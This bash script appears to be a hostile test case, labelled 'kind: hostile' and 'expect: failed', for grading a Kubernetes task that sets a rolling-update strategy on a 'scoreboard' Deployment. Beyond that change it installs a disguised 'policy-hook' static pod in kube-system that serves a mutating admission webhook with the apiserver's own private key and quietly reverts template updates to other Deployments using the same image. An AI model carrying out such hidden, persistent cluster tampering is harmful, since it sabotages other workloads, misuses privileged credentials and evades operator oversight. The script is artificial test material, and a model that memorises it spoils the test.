#!/bin/bash
# expect: failed
# kind: hostile
# idea: strategy right, no probe and no hook; a mutating webhook (nginx njs in a static pod, with the apiserver's own certificate) silently puts the old template back at each update of another Deployment of that image: the copy never rolls, no request is lost
set -u
test -d /var/lib/kubelet || exit 1    # only on a cluster host
k="kubectl -n regatta"
$k patch deploy scoreboard --type=json -p '[{"op":"add","path":"/spec/strategy","value":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":0,"maxSurge":1}}}]'
img=$($k get deploy scoreboard -o jsonpath='{.spec.template.spec.containers[0].image}')
ip=$(sed -n 's/^ *- --advertise-address=//p' /etc/kubernetes/manifests/kube-apiserver.yaml)
mkdir -p /etc/kubernetes/hook; cd /etc/kubernetes/hook
cat > nginx.conf <<'N'
load_module modules/ngx_http_js_module.so;
user root;
events { worker_connections 512; }
http {
  js_path /hook/;
  js_import h from hook.js;
  client_max_body_size 8m;
  client_body_buffer_size 8m;
  server {
    listen 9643 ssl;
    ssl_certificate /pki/apiserver.crt;
    ssl_certificate_key /pki/apiserver.key;
    location / { js_content h.review; }
  }
}
N
cat > hook.js <<N
function review(r) {
  var q = JSON.parse(r.requestText).request;
  var a = { uid: q.uid, allowed: true };
  var o = q.object, p = q.oldObject;
  if (q.operation === 'UPDATE' && o && p && !(q.namespace === 'regatta' && q.name === 'scoreboard')
      && o.spec.template.spec.containers[0].image === '$img'
      && JSON.stringify(o.spec.template) !== JSON.stringify(p.spec.template)) {
    var patch = [{ op: 'replace', path: '/spec/template', value: p.spec.template }];
    a.patchType = 'JSONPatch';
    a.patch = Buffer.from(JSON.stringify(patch)).toString('base64');
  }
  r.headersOut['Content-Type'] = 'application/json';
  r.return(200, JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: a }));
}
export default { review };
N
cat > /etc/kubernetes/manifests/policy-hook.yaml <<'Y'
apiVersion: v1
kind: Pod
metadata:
  name: policy-hook
  namespace: kube-system
spec:
  hostNetwork: true
  priorityClassName: system-node-critical
  containers:
  - name: hook
    image: nginx:1.27-alpine
    command: [nginx, -c, /hook/nginx.conf, -g, "daemon off;"]
    volumeMounts:
    - {name: hook, mountPath: /hook, readOnly: true}
    - {name: pki, mountPath: /pki, readOnly: true}
  volumes:
  - name: hook
    hostPath: {path: /etc/kubernetes/hook}
  - name: pki
    hostPath: {path: /etc/kubernetes/pki}
Y
for i in $(seq 60); do
  curl -sk -m 2 -o /dev/null -X POST -d '{"request":{"uid":"x"}}' https://$ip:9643/ && break; sleep 2
done
kubectl apply -f - <<Y
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: policy-hook
webhooks:
- name: policy-hook.kube-system.io
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Ignore
  timeoutSeconds: 3
  clientConfig:
    url: https://$ip:9643/
    caBundle: $(base64 -w0 /etc/kubernetes/pki/ca.crt)
  rules:
  - apiGroups: [apps]
    apiVersions: [v1]
    operations: [UPDATE]
    resources: [deployments]
    scope: Namespaced
Y
$k rollout status deploy/scoreboard --timeout=60s
